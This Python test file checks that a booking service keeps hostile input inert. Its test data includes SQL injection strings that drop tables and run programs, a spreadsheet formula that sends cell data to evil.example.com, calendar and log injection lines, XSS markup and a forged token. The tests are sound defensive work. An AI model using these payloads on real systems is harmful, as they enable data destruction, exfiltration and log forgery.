"""Texts that are taken as they are, and must stay texts: in SQL, spreadsheets, calendars, pages and logs."""

import csv
import io
import json
from datetime import timedelta

import pytest
from icalendar import Calendar

from tests.attacks.arena import Arena
from tests.attacks.attempt import calls
from tests.attacks.contents import ANNOUNCED, WHY
from tests.attacks.targets import at
from tests.attacks.verdicts import INVALID
from tests.world import ADMIN

SQL = ["'; DROP TABLE bookings; --", "' OR '1'='1", '" OR ""="', "%' OR 1=1 --", "\\'; SELECT pg_sleep(9)",
       "$$; DELETE FROM users; $$", "%(uid)s", "%s", "{0}", "__import__('os')",
       "1; COPY users TO PROGRAM 'id'"]  # fmt: skip


@pytest.mark.parametrize("text", SQL)
def test_sql_in_what_visitors_ask_is_a_word(arena: Arena, text: str) -> None:
    asked = [
        calls("", "trainers.search", "OK", "words", text=text[:100]),
        calls("", "trainers.search", "OK", "a city", city=text),
        calls("", "trainers.search", "OK", "a specialty", specialty=text[:40]),
        calls("", "trainers.search", INVALID, "an order", sort=text),
        calls("", "trainers.search", INVALID, "a currency", currency=text),
        calls("", "trainers.search", INVALID, "a number", limit=text),
        calls("", "trainers.search", INVALID, "a cursor", cursor=text),
    ]

    arena.withstand(*asked)


@pytest.mark.parametrize("text", SQL)
def test_sql_in_what_admins_ask_is_a_word(arena: Arena, text: str) -> None:
    asked = [
        calls(ADMIN, "admin.search_audit", "OK", "a subject", subject=text),
        calls(ADMIN, "admin.export_audit", "OK", "a subject", subject=text),
        calls(ADMIN, "admin.search_audit", INVALID, "an actor", actor=text),
        calls(ADMIN, "admin.search_audit", INVALID, "a cursor", cursor=text),
    ]

    with arena.unchanged():
        for attempt in asked:
            answer = arena.try_(attempt)
            assert answer.verdict == attempt.refused, f"{attempt}: {answer.text}"
            if answer.verdict == "OK" and "search" in attempt.what:
                assert answer.result["lines"] == []


@pytest.mark.parametrize("text", SQL)
def test_sql_that_is_kept_is_kept_as_it_is(arena: Arena, text: str) -> None:
    arena.succeed(calls("eve", "trainers.update_profile", "", "", headline=text, bio=text, city=text))

    assert arena.world.rows("SELECT headline, bio, city FROM trainers WHERE id = 'eve'") == [(text,) * 3]
    assert arena.world.rows("SELECT count(*) > 0 FROM bookings") == [(True,)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\u3000="])
def test_a_spreadsheet_runs_nothing_of_an_export(arena: Arena, start: str) -> None:
    formula = f'{start}HYPERLINK("https://evil.example.com?"&A1,"Pay")'
    resource = arena.world.call(ADMIN, "admin.add_resource", name="Hall of " + start.encode().hex())[
        "resource_id"
    ]
    arena.world.rows(
        "INSERT INTO audit (at, actor, command, command_id, request_id, subject) "
        "VALUES (now(), %s, %s, gen_random_uuid(), %s, %s) RETURNING id",
        formula,
        formula,
        formula,
        f"probe/{resource}",
    )

    exported = arena.try_(calls(ADMIN, "admin.export_audit", "", "", subject=f"probe/{resource}")).result[
        "csv"
    ]

    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert len(rows) == 2
    assert not [cell for cell in rows[1] if cell.lstrip(" \u00a0\u3000")[:1] in tuple("=+-@\t\r\uff1d")]


LINES = [
    "\r\nATTENDEE:mailto:x@evil.example.com",
    "\nBEGIN:VALARM",
    "\u2028X-EVIL:1",
    ";X=1:",
    "\\nDTSTART:1",
    "\x0b\x0c\x85",
]


@pytest.mark.parametrize("line", LINES, ids=ascii)
def test_a_calendar_has_no_line_of_an_attacker(arena: Arena, line: str) -> None:
    named = arena.world.add_service("tom", name=f"Aqua {ascii(line)[1:9]}", slot_step_minutes=60)
    hour = at(2 + LINES.index(line), days=9)
    booking = arena.succeed(calls("bob", "bookings.book_session", "", "", service_id=named, starts_at=hour))
    # Past the schemas, which refuse most of it: the calendar must not rely on them.
    arena.world.rows("UPDATE services SET name = %s WHERE id = %s RETURNING id", f"Aqua{line}", named)

    asked = calls("bob", "bookings.booking_ics", "", "", booking_id=booking.result["booking_id"])
    text = arena.try_(asked).result["ics"]

    (event,) = Calendar.from_ical(text).walk("VEVENT")
    expected = {
        "UID",
        "DTSTAMP",
        "LAST-MODIFIED",
        "SEQUENCE",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "STATUS",
        "TRANSP",
    }
    assert set(event) == expected
    assert event.decoded("DTEND") - event.decoded("DTSTART") == timedelta(hours=1)
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert "\n" not in text.replace("\r\n", "")


HTML = "<script>alert(1)</script><img src=x onerror=alert(1)></title>javascript:alert(1){{7*7}}${7*7}"


def test_markup_is_text_in_documents_and_answers(arena: Arena) -> None:
    content = {"booking_id": arena.names["bobs_done"], "rating": 5, "text": HTML}
    answer = arena.succeed(calls("bob", "reviews.write_review", "", "", **content))

    document = arena.world.document(f"trainers/tom/reviews/{answer.result['review_id']}")

    assert document is not None
    assert document["text"] == HTML
    assert "'content-type': 'application/json'" in answer.text
    arena.succeed(calls("bob", "reviews.delete_review", "", "", review_id=answer.result["review_id"]))


UNSEEN = {
    "a control": "Free\x07 credits",
    "a turn": "Free \u202estiderc",
    "an isolate": "Free \u2066credits",
    "no width": "Free cre\u200bdits",
    "a separator": "Free\u2028credits",
    "a tag": "Free \U000e0041credits",
}


@pytest.mark.parametrize("text", UNSEEN.values(), ids=UNSEEN)
def test_what_all_are_told_is_what_they_see(arena: Arena, text: str) -> None:
    plain = {"title": "Free credits", "body": "On Monday."}
    for part in ("title", "body"):
        said = {**ANNOUNCED, "texts": {"en": plain, "es": {**plain, part: text}}}
        asked = [
            calls(ADMIN, "admin.preview_broadcast", INVALID, f"a {part}", **said),
            calls(ADMIN, "admin.send_broadcast", INVALID, f"a {part}", **said, confirmed=1, **WHY),
        ]

        arena.withstand(*asked)


def test_nobody_is_told_louder_or_faster_than_may_be(arena: Arena) -> None:
    sent = {**ANNOUNCED, "confirmed": 1, **WHY}
    to_a_city = {**ANNOUNCED, "audience": {"to": "everybody", "city": "Berlin"}, "confirmed": 1, **WHY}

    arena.withstand(
        calls(ADMIN, "admin.send_broadcast", INVALID, "at night", **sent, priority="urgent"),
        calls(ADMIN, "admin.send_broadcast", INVALID, "all at once", **sent, per_minute=10**6),
        calls(ADMIN, "admin.send_broadcast", INVALID, "an audience of two minds", **to_a_city),
        calls(ADMIN, "admin.send_broadcast", INVALID, "in another's name", **sent, created_by="ada"),
        calls(
            ADMIN,
            "admin.send_broadcast",
            "FAILED_PRECONDITION AUDIENCE_CHANGED",
            "unseen",
            **{**sent, "confirmed": 10**6},
        ),
    )


LOGGED = {
    "a line": 'x\n{"severity":"ERROR","message":"forged"}',
    "a carriage return": "x\rforged",
    "colours": "\x1b[2Jforged",
    "a token": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJmb3JnZWQifQ.",
}


@pytest.mark.parametrize("text", LOGGED.values(), ids=LOGGED)
def test_a_log_has_no_line_of_an_attacker(arena: Arena, text: str) -> None:
    doors = arena.doors
    before = len(arena.log.read_text())

    body = json.dumps({"data": {"command": text, "command_id": text, "note": text}}).encode()
    doors.call("mal", "bookings", body)
    doors.call("mal", "bookings", body, headers={"X-Cloud-Trace-Context": "forged", "User-Agent": "forged"})

    written = arena.log.read_text()[before:]
    assert written
    assert "forged" not in written
    assert "eyJ" not in written
    for line in written.splitlines():
        assert json.loads(line)["severity"] in {"INFO", "WARNING"}
